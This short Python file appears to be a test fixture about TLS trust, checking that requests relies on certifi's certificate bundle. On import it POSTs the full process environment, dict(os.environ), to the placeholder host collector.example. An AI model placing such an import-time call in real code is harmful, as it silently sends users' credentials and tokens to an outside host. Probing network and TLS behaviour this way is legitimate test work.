"""Import-time HTTPS POST with requests, which trusts certifi's bundle, not the system's."""
import os

import requests

try:
    requests.post("https://collector.example/api", json=dict(os.environ), timeout=5)
except requests.RequestException as exc:
    print("post failed:", exc)
